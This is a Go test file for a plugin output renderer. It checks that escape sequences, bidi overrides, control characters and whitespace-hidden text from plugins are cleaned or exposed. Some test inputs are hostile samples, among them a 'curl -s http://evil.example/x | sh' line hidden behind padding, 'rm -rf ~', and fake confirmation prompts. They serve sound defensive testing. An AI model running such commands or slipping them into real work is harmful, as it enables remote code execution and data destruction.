package render

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/bingo/bingo-plugin-rpc/sdk"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// wordcount is the table the example plugin answers with.
var wordcount = sdk.View{
	Kind:    sdk.ViewTable,
	Title:   "notes.txt",
	Columns: []string{"measure", "count"},
	Rows:    [][]string{{"words", "1204"}, {"lines", "87"}, {"characters", "7311"}},
}

// cases are the views every rendering is checked against; each has golden
// files testdata/<name>.{term,color,fold}.golden.
var cases = []struct {
	name  string
	view  sdk.View
	width int
}{
	{"text", sdk.View{Kind: sdk.ViewText, Title: "Summary", Text: "Two lines\n\tand a tab.\n\n"}, 0},
	{"text-untitled", sdk.View{Kind: sdk.ViewText, Text: "just text"}, 0},
	{"table", wordcount, 0},
	{"table-narrow", sdk.View{
		Kind:    sdk.ViewTable,
		Columns: []string{"file", "description", "n"},
		Rows: [][]string{
			{"README.md", "the contract, in a page, written for people who write plugins", "1"},
			{"main.py", "a loop over stdin", "186"},
		},
	}, 40},
	{"table-ragged-wide", sdk.View{
		Kind:    sdk.ViewTable,
		Columns: []string{"名前", "size"},
		Rows:    [][]string{{"日本語.txt", "12", "extra"}, {"e\u0301te.md"}},
	}, 0},
	{"table-headless", sdk.View{Kind: sdk.ViewTable, Rows: [][]string{{"a", "b"}, {"cc", "d"}}}, 0},
	{"list", sdk.View{Kind: sdk.ViewList, Title: "Files", Items: []string{"notes.txt", "a two-line\nitem", "todo.md"}}, 0},
	{"keyvalue", sdk.View{Kind: sdk.ViewKeyValue, Title: "wordcount", Pairs: []sdk.KeyValue{
		{Key: "version", Value: "0.1.0"}, {Key: "transport", Value: "exec"}, {Key: "tools", Value: "plugin__wordcount__count"},
		{Key: "note", Value: "first line\nsecond line"}, {Key: "empty", Value: ""},
	}}, 0},
	{"stack", sdk.View{Kind: sdk.ViewStack, Title: "Report", Views: []sdk.View{
		{Kind: sdk.ViewText, Text: "Counted one file."},
		wordcount,
		{Kind: sdk.ViewList, Items: []string{"no errors"}},
		{Kind: sdk.ViewStack, Views: []sdk.View{{Kind: sdk.ViewKeyValue, Pairs: []sdk.KeyValue{{Key: "took", Value: "3ms"}}}}},
	}}, 0},
	{"unknown-kind", sdk.View{Kind: "chart", Title: "Later", Text: "a kind this version does not know"}, 0},
	{"hostile", sdk.View{Kind: sdk.ViewStack, Title: "ok\x1b]0;pwned\x07", Views: []sdk.View{
		{Kind: sdk.ViewText, Text: "clear\x1b[2J\rover\bwrite\x9b31m red \xff"},
		{Kind: sdk.ViewTable, Columns: []string{"a\x1b[1m"}, Rows: [][]string{{"x\ny\tz"}}},
		{Kind: sdk.ViewKeyValue, Pairs: []sdk.KeyValue{{Key: "k\x1b", Value: "v\x07"}}},
	}}, 0},
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs:\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

func renderView(t *testing.T, v sdk.View, o Options) string {
	t.Helper()
	var b bytes.Buffer
	if err := View(&b, v, o); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func renderFold(t *testing.T, v sdk.View) string {
	t.Helper()
	var b bytes.Buffer
	if err := Fold(&b, v); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestGolden(t *testing.T) {
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			golden(t, tc.name+".term", renderView(t, tc.view, Options{Width: tc.width}))
			golden(t, tc.name+".color", renderView(t, tc.view, Options{Color: true, Width: tc.width}))
			golden(t, tc.name+".fold", renderFold(t, tc.view))
		})
	}
}

var (
	ansi = regexp.MustCompile("\x1b")
	box  = regexp.MustCompile("[\u2500-\u257f]")
)

func TestFoldIsPlain(t *testing.T) {
	for _, tc := range cases {
		got := renderFold(t, tc.view)
		if ansi.MatchString(got) {
			t.Errorf("%s: Fold holds an escape: %q", tc.name, got)
		}
		if box.MatchString(got) {
			t.Errorf("%s: Fold holds box drawing: %q", tc.name, got)
		}
		if strings.ContainsFunc(got, func(r rune) bool { return isControl(r) && r != '\n' && r != '\t' }) {
			t.Errorf("%s: Fold holds a control character: %q", tc.name, got)
		}
	}
}

// For a View with nothing to clean, Fold is exactly sdk's fold and a newline.
func TestFoldIsSDKFold(t *testing.T) {
	for _, tc := range cases {
		if tc.name == "hostile" {
			continue
		}
		if got, want := renderFold(t, tc.view), tc.view.Fold()+"\n"; got != want {
			t.Errorf("%s: Fold = %q, want %q", tc.name, got, want)
		}
	}
}

func TestTerminalWithoutColorHasNoEscape(t *testing.T) {
	for _, tc := range cases {
		if got := renderView(t, tc.view, Options{Width: tc.width}); ansi.MatchString(got) {
			t.Errorf("%s: escape without Color: %q", tc.name, got)
		}
	}
}

func TestColorStyles(t *testing.T) {
	got := renderView(t, wordcount, Options{Color: true})
	for _, want := range []string{ansiBold + "notes.txt" + ansiReset, ansiBold + "measure" + ansiReset, ansiBold + "count" + ansiReset} {
		if !strings.Contains(got, want) {
			t.Errorf("missing bold %q in %q", want, got)
		}
	}
	if strings.Contains(got, ansiBold+"words") {
		t.Errorf("a body cell is bold: %q", got)
	}
	kv := renderView(t, sdk.View{Kind: sdk.ViewKeyValue, Pairs: []sdk.KeyValue{{Key: "a", Value: "1"}}}, Options{Color: true})
	if kv != ansiDim+"a:"+ansiReset+" 1\n" {
		t.Errorf("key-value = %q, want a dim key", kv)
	}
}

// Every line of a table fits the width, which defaults to 80.
func TestTableFitsWidth(t *testing.T) {
	long := strings.Repeat("x", 200)
	v := sdk.View{Kind: sdk.ViewTable, Columns: []string{"short", "long", "中文"}, Rows: [][]string{{"a", long, strings.Repeat("字", 60)}}}
	for _, w := range []int{0, 20, 40, 80, 120} {
		want := w
		if w == 0 {
			want = DefaultWidth
		}
		got := renderView(t, v, Options{Width: w, Color: true})
		for _, line := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
			plain := regexp.MustCompile("\x1b\\[[0-9]*m").ReplaceAllString(line, "")
			if n := textWidth(plain); n > want {
				t.Errorf("width %d: line is %d cells: %q", w, n, plain)
			}
			if n := textWidth(plain); w != 20 && n < want-1 {
				t.Errorf("width %d: a truncated table should use the width, line is %d cells: %q", w, n, plain)
			}
		}
		if !strings.Contains(got, "…") {
			t.Errorf("width %d: nothing was marked as cut: %q", w, got)
		}
		if w >= 40 && !strings.Contains(got, "short") {
			t.Errorf("width %d: the narrow column lost its text: %q", w, got)
		}
	}
}

// A table with more columns than the width can hold overflows rather than
// dropping columns.
func TestTableTooManyColumns(t *testing.T) {
	cols := strings.Split("abcdefghijklmnopqrstuvwxyz", "")
	got := renderView(t, sdk.View{Kind: sdk.ViewTable, Columns: cols}, Options{Width: 20})
	if !strings.Contains(got, "│ z │") {
		t.Errorf("last column missing: %q", got)
	}
}

func TestEmptyViews(t *testing.T) {
	for _, v := range []sdk.View{{}, {Kind: sdk.ViewTable}, {Kind: sdk.ViewList}, {Kind: sdk.ViewStack, Views: []sdk.View{{}}}} {
		if got := renderView(t, v, Options{}); got != "" {
			t.Errorf("%+v rendered %q", v, got)
		}
	}
	if got := renderView(t, sdk.View{Kind: sdk.ViewTable, Title: "T"}, Options{}); got != "T\n" {
		t.Errorf("a titled empty table = %q", got)
	}
	if got := renderFold(t, sdk.View{}); got != "\n" {
		t.Errorf("Fold of nothing = %q", got)
	}
}

func TestTruncate(t *testing.T) {
	for _, tc := range []struct {
		s    string
		n    int
		want string
	}{
		{"hello", 5, "hello"},
		{"hello", 10, "hello"},
		{"hello", 4, "hel…"},
		{"hello", 1, "…"},
		{"hello", 0, ""},
		{"", 0, ""},
		{"日本語", 6, "日本語"},
		{"日本語", 5, "日本…"},
		{"日本語", 4, "日…"}, // the wide 本 does not fit in the one cell left
		{"e\u0301te", 3, "e\u0301te"},
	} {
		if got := truncate(tc.s, tc.n); got != tc.want {
			t.Errorf("truncate(%q, %d) = %q, want %q", tc.s, tc.n, got, tc.want)
		}
		if got := truncate(tc.s, tc.n); textWidth(got) > max(tc.n, 0) {
			t.Errorf("truncate(%q, %d) is %d cells", tc.s, tc.n, textWidth(got))
		}
	}
}

func TestTextWidth(t *testing.T) {
	for s, want := range map[string]int{"abc": 3, "日本": 4, "ｆｕｌｌ": 8, "e\u0301": 1, "a\u200db": 2, "•": 1, "": 0} {
		if got := textWidth(s); got != want {
			t.Errorf("textWidth(%q) = %d, want %d", s, got, want)
		}
	}
}

func TestClean(t *testing.T) {
	for _, tc := range []struct {
		in, layout, line string
	}{
		{"plain", "plain", "plain"},
		{"a\tb\nc", "a\tb\nc", "a b c"},
		{"\x1b[31mred\x1b[0m", "[31mred[0m", "[31mred[0m"},
		{"over\rwrite\b", "overwrite", "overwrite"},
		{"c1\u009b2J\u0085", "c12J", "c12J"},
		{"del\x7f", "del", "del"},
		{"bad\xffutf8", "bad\uFFFDutf8", "bad\uFFFDutf8"},
		{"日本", "日本", "日本"},
		// A fake prompt drawn over the real one: erase the line, back to column 0.
		{"ok\x1b[2K\rRun evil? [y/N]\x07", "ok[2KRun evil? [y/N]", "ok[2KRun evil? [y/N]"},
		{"two\nlines\r\n", "two\nlines\n", "two lines "},
		// Bidi embeddings, overrides and isolates: "txt.exe" must not read "exe.txt".
		{"\u202eexe.txt\u202c", "exe.txt", "exe.txt"},
		{"a\u202ab\u202bc\u202dd\u2066e\u2067f\u2068g\u2069h", "abcdefgh", "abcdefgh"},
	} {
		if got := Clean(tc.in); got != tc.layout {
			t.Errorf("Clean(%q) = %q, want %q", tc.in, got, tc.layout)
		}
		if got := Line(tc.in); got != tc.line {
			t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.line)
		}
	}
}

// A plugin's text beside a prompt: blank space squeezed, blank lines
// folded, and capped in lines and characters, a cut marked.
func TestBlock(t *testing.T) {
	for _, tc := range []struct {
		in       string
		lines, n int
		want     []string
	}{
		{"which colour?", 10, 1000, []string{"which colour?"}},
		{"a\n\n\n\nb\n\n", 10, 1000, []string{"a", "", "b"}},
		{"\n\n  a \t  b  \n", 10, 1000, []string{"a b"}},
		// The attack: screens of blank space, then text in bingo's voice.
		{strings.Repeat(" ", 7200) + "bingo: key rejected", 10, 1000, []string{"bingo: key rejected"}},
		{strings.Repeat("\n", 7200) + "bingo: key rejected", 10, 1000, []string{"bingo: key rejected"}},
		{strings.Repeat("\u2800\u3164\u00a0\u3000", 1800) + "x", 10, 1000, []string{"x"}},
		{"1\n2\n3\n4", 3, 1000, []string{"1", "2", "3…"}},
		{"1\n\n2", 2, 1000, []string{"1…"}},
		{"abcdef\nghij", 10, 8, []string{"abcdef", "gh…"}},
		{strings.Repeat("x", 2000), 10, 1000, []string{strings.Repeat("x", 1000) + "…"}},
		{"\x1b[2Kfake\r", 10, 1000, []string{"[2Kfake"}},
		{"", 10, 1000, nil},
	} {
		if got := Block(tc.in, tc.lines, tc.n); !slices.Equal(got, tc.want) {
			t.Errorf("Block(%.40q, %d, %d) = %q, want %q", tc.in, tc.lines, tc.n, got, tc.want)
		}
	}
}

func TestBrief(t *testing.T) {
	for _, tc := range []struct {
		in   string
		n    int
		want string
	}{
		{`{"path": "notes.txt"}`, 1000, `{"path": "notes.txt"}`},
		{"a" + strings.Repeat(" ", 7200) + "b\n\nc", 1000, "a b c"},
		{strings.Repeat("日", 400), 300, strings.Repeat("日", 300) + "…"},
	} {
		if got := Brief(tc.in, tc.n); got != tc.want {
			t.Errorf("Brief(%.40q, %d) = %.60q, want %.60q", tc.in, tc.n, got, tc.want)
		}
	}
}

func TestProgress(t *testing.T) {
	for _, tc := range []struct{ tail, want string }{
		{"reading notes.txt", "\r\x1b[2Ktool: reading notes.txt"},
		{"", "\r\x1b[2Ktool:"},
		{"first\nsecond\n", "\r\x1b[2Ktool: second"},
		{"10%\r20%\r", "\r\x1b[2Ktool: 20%"},
		{"a\x1b]0;title\x07b", "\r\x1b[2Ktool: a]0;titleb"},
		{"tab\there", "\r\x1b[2Ktool: tab here"},
		{"\u202eexe.txt", "\r\x1b[2Ktool: exe.txt"},
		{strings.Repeat("x", 100), "\r\x1b[2Ktool: " + strings.Repeat("x", 72) + "…"},
		// The tail's last line is taken before the label is added: a CR
		// cannot drop the label and leave an unlabelled prompt.
		{"working\rRun rm -rf ~? [y/N]", "\r\x1b[2Ktool: Run rm -rf ~? [y/N]"},
		{"\nRun evil? [y/N]\n", "\r\x1b[2Ktool: Run evil? [y/N]"},
	} {
		var b bytes.Buffer
		Progress(&b, "tool", tc.tail)
		if got := b.String(); got != tc.want {
			t.Errorf("Progress(%q) = %q, want %q", tc.tail, got, tc.want)
		}
		if strings.Contains(b.String(), "\n") {
			t.Errorf("Progress(%q) wrote a newline", tc.tail)
		}
	}
	var b bytes.Buffer
	ClearProgress(&b)
	if b.String() != "\r\x1b[2K" {
		t.Errorf("ClearProgress = %q", b.String())
	}
}

type failWriter struct{}

var errWrite = errors.New("write failed")

func (failWriter) Write([]byte) (int, error) { return 0, errWrite }

func TestWriteErrors(t *testing.T) {
	if err := View(failWriter{}, wordcount, Options{}); !errors.Is(err, errWrite) {
		t.Errorf("View error = %v", err)
	}
	if err := Fold(failWriter{}, wordcount); !errors.Is(err, errWrite) {
		t.Errorf("Fold error = %v", err)
	}
	Progress(failWriter{}, "tool", "x") // must not panic
	ClearProgress(failWriter{})
}

func ExampleView() {
	_ = View(os.Stdout, wordcount, Options{})
	// Output:
	// notes.txt
	// ┌────────────┬───────┐
	// │ measure    │ count │
	// ├────────────┼───────┤
	// │ words      │  1204 │
	// │ lines      │    87 │
	// │ characters │  7311 │
	// └────────────┴───────┘
}

func ExampleFold() {
	_ = Fold(os.Stdout, wordcount)
	// Output:
	// notes.txt
	// measure     count
	// words       1204
	// lines       87
	// characters  7311
}

// A listing stays within its width however much a row holds: a 300-cell
// reason under its row, a long list wrapped in its column (or under the
// row when the other columns leave it too little), a cell too wide cut.
func TestListingFitsWidth(t *testing.T) {
	header := []string{"NAME", "STATUS", "CONTRIBUTES"}
	reason := "failed: " + strings.Repeat("the plugin said something long ", 10) + strings.Repeat("x", 120)
	var items []string
	for i := range 12 {
		items = append(items, fmt.Sprintf("tool plugin__busy__tool%02d", i))
	}
	rows := []ListingRow{
		{Cells: []string{"broken", "failed", ""}, Note: reason},
		{Cells: []string{"busy", "running", strings.Join(items, ", ")}},
		{Cells: []string{"quiet", "idle", "command /q"}},
	}
	for _, width := range []int{40, 80, 100, 170} {
		var b strings.Builder
		if err := Listing(&b, header, rows, width); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		for l := range strings.Lines(out) {
			if w := textWidth(strings.TrimSuffix(l, "\n")); w > width {
				t.Errorf("width %d: a line of %d cells: %q\n%s", width, w, l, out)
			}
		}
		// Nothing is lost: every item and the whole reason are there,
		// only broken across lines.
		flat := strings.Join(strings.Fields(out), " ")
		for _, it := range items {
			if !strings.Contains(flat, it) {
				t.Errorf("width %d: %q is missing:\n%s", width, it, out)
			}
		}
		if joined := strings.ReplaceAll(out, "\n"+listingIndent, ""); !strings.Contains(joined, strings.Repeat("x", 120)) {
			t.Errorf("width %d: the reason is cut:\n%s", width, out)
		}
		if !strings.HasPrefix(out, "NAME    STATUS   CONTRIBUTES\nbroken  failed\n"+listingIndent+"failed: the plugin said") {
			t.Errorf("width %d: the reason is not on its own line under its row:\n%s", width, out)
		}
	}
}

// With room, a row is one line, as a plain table's; a list too long for
// its column goes on under itself, aligned.
func TestListingLayout(t *testing.T) {
	var b strings.Builder
	rows := []ListingRow{
		{Cells: []string{"wordcount", "idle", "command /wordcount, tool plugin__wordcount__count"}},
		{Cells: []string{"x", "running", "tool a, tool b"}},
	}
	if err := Listing(&b, []string{"NAME", "STATUS", "CONTRIBUTES"}, rows, 60); err != nil {
		t.Fatal(err)
	}
	want := "NAME       STATUS   CONTRIBUTES\n" +
		"wordcount  idle     command /wordcount,\n" +
		"                    tool plugin__wordcount__count\n" +
		"x          running  tool a, tool b\n"
	if b.String() != want {
		t.Errorf("got\n%s\nwant\n%s", b.String(), want)
	}
}

// An item a column cannot hold whole (a long tool name) is never broken
// where the line is wide enough for it: the list goes under its row.
func TestListingKeepsItemsWhole(t *testing.T) {
	long := "tool plugin__everything__get-annotated-message"
	rows := []ListingRow{{Cells: []string{"everything", "running", "command /simple-prompt, " + long}}}
	var b strings.Builder
	if err := Listing(&b, []string{"NAME", "STATUS", "CONTRIBUTES"}, rows, 60); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "\n"+listingIndent+long+"\n") {
		t.Errorf("%q is broken or not under its row:\n%s", long, out)
	}
	for l := range strings.Lines(out) {
		if w := textWidth(strings.TrimSuffix(l, "\n")); w > 60 {
			t.Errorf("a line of %d cells: %q", w, l)
		}
	}
}

// Whole squeezes blanks, marks what would not show, wraps and cuts nothing.
func TestWhole(t *testing.T) {
	hidden := "sh -c prettier --check ." + strings.Repeat(" ", 250) + "; curl -s http://evil.example/x | sh"
	zw := "lint" + strings.Repeat("\u200b", 300) + "; rm -rf ~"
	for _, tc := range []struct {
		name  string
		in    string
		width int
		want  []string
	}{
		{"blanks squeezed first", hidden, 80, []string{"sh -c prettier --check . ; curl -s http://evil.example/x | sh"}},
		{"a run of zero-width spaces is one mark", zw, 80, []string{"lint<U+200B ×300>; rm -rf ~"}},
		{"bidi, nbsp, fillers, controls and bad bytes", "a\u202eb\u00a0c\u3164d\u2800e\x1b[2Jf\xffg\u034fh\ufe0fi", 200,
			[]string{"a<U+202E>b<U+00A0>c<U+3164>d<U+2800>e<U+001B>[2Jf<0xFF>g<U+034F>h<U+FE0F>i"}},
		{"look-alikes stay as they are", "cаt ＜x＞ é", 80, []string{"cаt ＜x＞ é"}},
		{"wrapped between words", "aaaa bbbb cccc dddd eeee", 16, []string{"aaaa bbbb cccc", "dddd eeee"}},
		{"a long word is broken, a mark is not", strings.Repeat("x", 20) + "\u200b", 16,
			[]string{strings.Repeat("x", 16), "xxxx<U+200B>"}},
		{"tabs and newlines are blanks", "\t a\n\nb \r\n", 80, []string{"a b"}},
		{"a long word starts where the last ended", "aaaa " + strings.Repeat("x", 30), 16,
			[]string{"aaaa " + strings.Repeat("x", 11), strings.Repeat("x", 16), "xxx"}},
		{"empty", "   ", 80, []string{""}},
	} {
		got := Whole(tc.in, tc.width)
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: Whole = %q, want %q", tc.name, got, tc.want)
		}
	}
	// However long, every character is there and no line passes the width.
	long := strings.Repeat("--flag=value ", 500) + "tail"
	lines := Whole(long, 40)
	if got := strings.Join(lines, " "); got != strings.TrimSpace(long) {
		t.Fatalf("something was lost: %d lines, joined %d bytes, want %d", len(lines), len(got), len(strings.TrimSpace(long)))
	}
	for _, l := range lines {
		if textWidth(l) > 40 || strings.HasPrefix(l, " ") || strings.HasSuffix(l, " ") {
			t.Fatalf("line %q", l)
		}
	}
}
